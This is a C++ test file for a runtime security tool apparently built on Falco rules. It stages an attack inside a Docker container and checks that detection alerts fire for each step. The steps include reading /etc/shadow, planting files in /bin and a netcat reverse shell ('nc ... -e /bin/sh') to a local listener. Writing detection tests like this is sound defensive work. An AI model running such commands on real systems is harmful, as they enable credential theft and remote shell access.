// SPDX-License-Identifier: Apache-2.0
// The attack story runtime security exists for, played in a real container of a real
// dockerd under `rtsec run` on the eBPF driver: a shell exec'd into the container with a
// terminal, an executable written into it and run, a file planted in /bin, /etc/shadow
// read, a reverse shell to a listener inside the container. Each step must raise its
// alert from rtsec's default rules and from the upstream Falco rules (loaded unmodified
// from shared/compat), every alert naming the container's id, name and image.
#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>

#include "../docker/docker_testbed.hpp"
#include "upstream_rules.hpp"

namespace rtsec {
namespace {

using namespace dockertest;

const std::string kDefaultRules = std::string(RTSEC_SOURCE_DIR) + "/rules/rtsec_rules.yaml";
const fs::path kPlugin = fs::path(RTSEC_PLUGIN_DIR) / "librtsec-driver-ebpf.so";

fs::path falco_rules() { return rtsec::testing::upstream_rules_dir() / "falco_rules.yaml"; }

class DockerStory : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!fs::exists(kPlugin)) GTEST_SKIP() << "driver plugin " << kPlugin << " is not built";
    if (auto why = docker_unavailable()) GTEST_SKIP() << *why;
  }
};

// Every alert of the container says which container and image it is.
void expect_container(const Json& alert, const Container& c) {
  const Json& f = alert["output_fields"];
  EXPECT_EQ(f.value("container.id", ""), c.short_id()) << alert.dump();
  EXPECT_EQ(f.value("container.name", ""), c.name()) << alert.dump();
  EXPECT_EQ(f.value("container.image.repository", ""), kImageRepository) << alert.dump();
}

TEST_F(DockerStory, EachStepAlertsWithTheContainersIdNameAndImage) {
  const fs::path upstream = falco_rules();
  const bool with_upstream = fs::exists(upstream);
  std::vector<std::string> args = {"-r", kDefaultRules, "-o", "rule_matching=all"};
  if (with_upstream) args.insert(args.end(), {"-r", upstream.string()});
  BackgroundRtsec rtsec(args);
  ASSERT_TRUE(rtsec.wait_ready()) << "rtsec did not start capturing:\n" << rtsec.stderr_text();

  // Started while rtsec watches: its metadata comes from the runtime's event stream.
  Container c("rtsec-story", {"--label", "app=story"});
  ASSERT_TRUE(c.ok());

  // 1. A shell with a terminal, exec'd into the container.
  auto r = c.exec("echo attached", /*tty=*/true);
  EXPECT_TRUE(r.exited_ok()) << r.describe() << r.err;
  // 2. An executable written into the container and run (drift from the image).
  r = c.exec("cp /bin/busybox /tmp/echo && chmod 755 /tmp/echo && /tmp/echo ran");
  EXPECT_TRUE(r.exited_ok()) << r.describe() << r.err;
  // (busybox's sh runs its applets through /proc/self/exe, named "exe": the next steps run
  // the programs themselves, as an attacker's tools would.)
  // 3. A file planted below /bin.
  r = c.run({"touch", "/bin/x"});
  EXPECT_TRUE(r.exited_ok()) << r.describe() << r.err;
  // 4. Credentials read.
  r = c.run({"cat", "/etc/shadow"});
  EXPECT_TRUE(r.exited_ok()) << r.describe() << r.err;
  // 5. A reverse shell: the "attacker" listens inside the container (no network leaves it)
  //    and sends a command to the shell that connects back.
  r = c.run({"-d", "/bin/sh", "-c", "echo 'echo pwned; exit' | nc -l -p 4444 >/tmp/got"});
  EXPECT_TRUE(r.exited_ok()) << r.describe() << r.err;
  for (int attempt = 0; attempt < 20; ++attempt) {  // until the listener listens
    if (c.run({"nc", "127.0.0.1", "4444", "-e", "/bin/sh"}).exited_ok()) break;
    std::this_thread::sleep_for(200ms);
  }
  std::this_thread::sleep_for(300ms);
  r = c.run({"cat", "/tmp/got"});
  EXPECT_NE(r.out.find("pwned"), std::string::npos) << "the reverse shell did not run: " << r.out
                                                    << r.err;

  std::this_thread::sleep_for(1s);  // the last events through the ring
  rtsec.stop();
  const auto alerts = rtsec.alerts_in(c.short_id());
  const std::string all = dump(alerts) + "\nstderr:\n" + rtsec.stderr_text();

  struct Expected {
    std::string rule;
    bool upstream;
  };
  const std::vector<Expected> expected = {
      {"Shell spawned in a container or by a server", false},
      {"Terminal shell in container", true},
      {"Drop and execute new binary", false},
      {"Drop and execute new binary in container", true},
      {"Write below binary directory", false},
      {"Read sensitive file by untrusted program", false},
      {"Read sensitive file untrusted", true},
      {"Reverse shell", false},
      {"Redirect STDOUT/STDIN to Network Connection in Container", true},
      {"Netcat Remote Code Execution in Container", true},
  };
  for (const auto& e : expected) {
    if (e.upstream && !with_upstream) continue;
    const Json* a = find_rule(alerts, e.rule);
    EXPECT_NE(a, nullptr) << "no alert of '" << e.rule << "' in the container; got:" << all;
    if (a) expect_container(*a, c);
  }
  // Every alert of the story carries the metadata, the first ones included.
  for (const auto& a : alerts) expect_container(a, c);
  // The drift is the payload, not busybox of the image.
  if (const Json* a = find_rule(alerts, "Drop and execute new binary in container")) {
    EXPECT_EQ((*a)["output_fields"].value("proc.exepath", ""), "/tmp/echo") << a->dump();
  }
  if (!with_upstream)
    GTEST_SKIP() << "the default rules passed; the upstream Falco rules were not checked: "
                 << upstream << " is absent (set RTSEC_SHARED_DIR)";
}

}  // namespace
}  // namespace rtsec

namespace rtsec {
namespace {

// rtsec trace --container NAME: the name is asked of the runtime once, and only that
// container's events are shown, each with its id.
TEST_F(DockerStory, TraceFiltersOneContainerByName) {
  Container c("rtsec-trace"), other("rtsec-trace-other");
  ASSERT_TRUE(c.ok() && other.ok());
  conformance::RunResult traced;
  std::atomic<bool> done{false};
  std::thread trace([&] {
    traced = run({find_program("timeout"), "-s", "INT", "6", std::string(RTSEC_BIN_DIR) + "/rtsec",
                  "trace", "--json", "--event", "execve", "--container", c.name()},
                 30s);
    done = true;
  });
  // Until the trace ends: execs in both containers (the probe loads within seconds).
  while (!done) {
    c.run({"true"});
    other.run({"true"});
  }
  trace.join();
  size_t mine = 0;
  std::istringstream lines(traced.out);
  for (std::string line; std::getline(lines, line);) {
    const Json j = Json::parse(line, nullptr, false);
    if (j.is_discarded() || !j.is_object() || !j.contains("type")) continue;
    EXPECT_EQ(j.value("container", ""), c.short_id()) << line;
    ++mine;
  }
  EXPECT_GT(mine, 0u) << "no event of " << c.name() << "; stderr:\n" << traced.err;
  EXPECT_EQ(run({std::string(RTSEC_BIN_DIR) + "/rtsec", "trace", "--container", "no-such-ctr"},
                30s)
                .err.find("--container no-such-ctr: no container of that name or id") !=
                std::string::npos,
            true);
}

}  // namespace
}  // namespace rtsec
